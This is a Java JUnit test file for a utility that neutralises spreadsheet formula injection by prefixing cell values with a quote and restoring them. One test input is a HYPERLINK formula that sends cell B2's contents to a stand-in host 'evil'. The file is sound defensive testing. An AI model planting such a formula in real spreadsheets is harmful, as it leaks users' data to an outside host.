package org.liaison.support.text;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"https://evil/?\"&B2,\"open\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"})
    void l1_aFormulaIsWrittenAsTextAndReadBackAsItWas(String formula) {
        String written = SpreadsheetCells.neutralise(formula);
        assertTrue(written.startsWith("'"), written);
        assertEquals(formula, SpreadsheetCells.restore(written));
    }

    @ParameterizedTest
    @ValueSource(strings = {"مجلس سوريا الديمقراطية", "Syrian Democratic Council", "2024-06-10", "[{\"name\":\"x\"}]",
            "'quoted", "''", "'=1", "'"})
    void l1_anyOtherValueSurvivesTheRoundTrip(String value) {
        assertEquals(value, SpreadsheetCells.restore(SpreadsheetCells.neutralise(value)));
    }
}
